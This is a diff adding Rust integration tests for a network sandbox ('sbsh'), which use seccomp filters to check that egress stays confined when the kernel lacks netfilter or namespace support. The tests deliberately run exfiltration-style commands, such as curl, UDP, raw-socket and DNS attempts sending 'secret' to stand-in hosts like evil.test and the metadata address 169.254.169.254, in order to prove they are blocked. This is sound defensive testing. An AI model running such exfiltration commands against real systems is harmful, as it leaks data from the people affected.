@@ -1,0 +1,146 @@
+//! What happens where the kernel does not give all that a transparent network needs. The lack is made by the test: a
+//! seccomp filter over the whole of sbsh. What is allowed is reached as documented, and nothing else is, ever.
+
+use crate::net::{Outside, has_programs};
+use crate::real_network::{online, sshd};
+use crate::world::{Ran, World, has};
+use std::fs;
+
+/// Puts itself under a filter and becomes the rest of its arguments. The first says what there is not to be: "tables"
+/// (no netlink socket of netfilter), "own" (unshare(2) makes no network namespace), "any" (nor does clone(2)).
+const WITHOUT: &str = r#"
+import ctypes, os, platform, struct, sys
+call = {"x86_64": dict(socket=41, unshare=272, clone=56, clone3=435), "aarch64": dict(socket=198, unshare=97, clone=220, clone3=435)}[platform.machine()]
+NEW_NET = 0x40000000
+def op(code, jt, jf, k): return struct.pack("HBBI", code, jt, jf, k)
+def refuse(number, tests, errno):
+    # Loads the call's number, then its arguments; what does not match jumps behind the refusal.
+    out = [(0x15, number)] + [part for test in tests for part in ((0x20, 16 + 8 * test[0]), (test[1], test[2]))]
+    code = b"".join(op(c, 0, len(out) - at, k) if c != 0x20 else op(c, 0, 0, k) for at, (c, k) in enumerate(out))
+    return op(0x20, 0, 0, 0) + code + op(6, 0, 0, 0x50000 | errno)
+IS, HAS = 0x15, 0x45
+program = {
+    "tables": lambda: refuse(call["socket"], [(0, IS, 16), (2, IS, 12)], 93),
+    "own": lambda: refuse(call["unshare"], [(0, HAS, NEW_NET)], 1),
+    "any": lambda: refuse(call["unshare"], [(0, HAS, NEW_NET)], 1) + refuse(call["clone"], [(0, HAS, NEW_NET)], 1) + refuse(call["clone3"], [], 38),
+}[sys.argv[1]]() + op(6, 0, 0, 0x7fff0000)
+held = ctypes.create_string_buffer(program, len(program))
+filter = struct.pack("HxxxxxxP", len(program) // 8, ctypes.addressof(held))
+libc = ctypes.CDLL(None, use_errno=True)
+assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, ctypes.create_string_buffer(filter, len(filter)), 0, 0) == 0, ctypes.get_errno()
+os.execv(sys.argv[2], sys.argv[2:])
+"#;
+
+fn without(what: &str, outside: &Outside, world: &World, text: &str) -> Ran {
+    let sbsh = world.bin("sbsh");
+    let arguments = ["-c", WITHOUT, what, sbsh.to_str().unwrap(), "-c", text];
+    outside.command(world, "/usr/bin/python3".as_ref(), &arguments).output().unwrap().into()
+}
+
+const GOOD: &str = r#"{"sandbox": {"allowedDomains": ["good.test"]}}"#;
+
+/// Every variable of a proxy, taken away again.
+const BARE: &str = "for name in $(env | sed -n 's/=.*//p' | grep -i proxy) GIT_SSH_COMMAND JAVA_TOOL_OPTIONS; do unset $name; done";
+
+/// What holds in every case: with the variables that are set all of it works, and nothing else is reached.
+fn variables_tell_the_way(what: &str, world: &World, outside: &Outside) {
+    let ran = without(
+        what,
+        outside,
+        world,
+        "env | grep -c '^https_proxy=http://127.0.0.1:28128$'; curl -sS --cacert $CA https://good.test/1; curl -sS http://good.test:8080/2
+         curl -sS http://evil.test/3 | grep -c blocked; curl -sS https://evil.test/4; curl -sS http://evil.test:4444/5 | grep -c blocked",
+    );
+    let expected = "1\nhttps GET /1 host=good.test body=0\nhttp GET /2 host=good.test:8080 body=0\n1\n1\n";
+    assert_eq!(ran.stdout, expected, "{what}: {ran:?}");
+    assert!(ran.stderr.contains("evil.test:443 is blocked"), "{what}: {ran:?}");
+    // Without them, by every way out that the transparent network closes otherwise.
+    let ran = without(
+        what,
+        outside,
+        world,
+        &format!(
+            "{BARE}
+             for host in evil.test 203.0.113.66 203.0.113.10 10.9.9.9 169.254.169.254 [2001:db8::66]; do for port in 22 53 80 443 4444; do
+                 curl -gs -m 3 -o /dev/null http://$host:$port/secret; done; done
+             python3 - <<'PY'
+import socket
+for family, host in [(2, '203.0.113.66'), (2, '203.0.113.53'), (10, '2001:db8::66')]:
+    for port in (53, 443, 4444):
+        try: socket.socket(family, 2).sendto(b'secret', (host, port))
+        except OSError: pass
+for kind in (3, 2):
+    try: socket.socket(2, kind, 1).sendto(b'secret', ('203.0.113.66', 0))
+    except OSError: pass
+try: socket.getaddrinfo('secret.evil.test', 80)
+except OSError: pass
+PY"
+        ),
+    );
+    let received = outside.received();
+    for forbidden in ["secret", "203.0.113.66", "10.9.9.9", "169.254.169.254", "2001:db8", "udp "] {
+        assert!(!received.contains(forbidden), "{what}: {forbidden}: {received} {ran:?}");
+    }
+}
+
+#[test]
+fn without_nf_tables_the_usual_ports_arrive_by_themselves_and_variables_tell_the_rest() {
+    online(GOOD, |world, outside| {
+        variables_tell_the_way("tables", world, outside);
+        let text = format!(
+            "{BARE}; curl -sS --cacert $CA https://good.test/1; curl -sS http://good.test/2; curl -sS -m 5 http://good.test:8080/3; echo $?
+             curl -sS http://evil.test/4"
+        );
+        let ran = without("tables", outside, world, &text);
+        let expected = "https GET /1 host=good.test body=0\nhttp GET /2 host=good.test body=0\n7\n";
+        assert!(ran.stdout.starts_with(expected), "{ran:?}");
+        assert!(ran.stderr.contains("evil.test:80 is blocked"), "{ran:?}");
+        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
+    });
+}
+
+#[test]
+fn without_a_namespace_of_our_own_the_first_process_inside_makes_the_doors() {
+    online(GOOD, |world, outside| {
+        variables_tell_the_way("own", world, outside);
+        let ran = without("own", outside, world, &format!("{BARE}; curl -sS -m 5 http://good.test/1; echo $?; python3 -m http.server 3000 >/dev/null 2>&1 &
+            for i in $(seq 200); do curl -s http://127.0.0.1:3000 >/dev/null && break; sleep 0.05; done; echo up; kill $!"));
+        assert_eq!(ran.stdout, "6\nup\n", "{ran:?}");
+    });
+}
+
+#[test]
+fn ssh_finds_its_way_by_the_helper_there() {
+    if !has_programs() || !has(&["sshd", "ssh", "git"]) {
+        return;
+    }
+    online(GOOD, |world, outside| {
+        let repository = crate::real_network::repository(outside);
+        let (_server, log) = sshd(world, outside);
+        let text = format!(
+            "git clone -q ssh://good.test{0} a; cat a/file; git clone -q ssh://evil.test{0} b",
+            repository.display()
+        );
+        let ran = without("own", outside, world, &text);
+        assert_eq!(ran.stdout, "from the repository\n", "{ran:?}");
+        assert!(ran.stderr.contains("evil.test:22 is blocked"), "{ran:?}");
+        assert!(fs::read_to_string(log).unwrap().contains("Accepted publickey"));
+        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
+    });
+}
+
+#[test]
+fn without_any_network_namespace_nothing_runs() {
+    online(GOOD, |world, outside| {
+        let ran = without(
+            "any",
+            outside,
+            world,
+            "echo ran; touch here; curl -s http://evil.test/; curl -s http://good.test/",
+        );
+        assert_eq!((ran.status, ran.stdout.as_str()), (Some(126), ""), "{ran:?}");
+        assert!(!world.project.join("here").exists());
+        let received = outside.received();
+        assert!(!received.contains("GET") && !received.contains("203.0.113.66"), "{received}");
+    });
+}
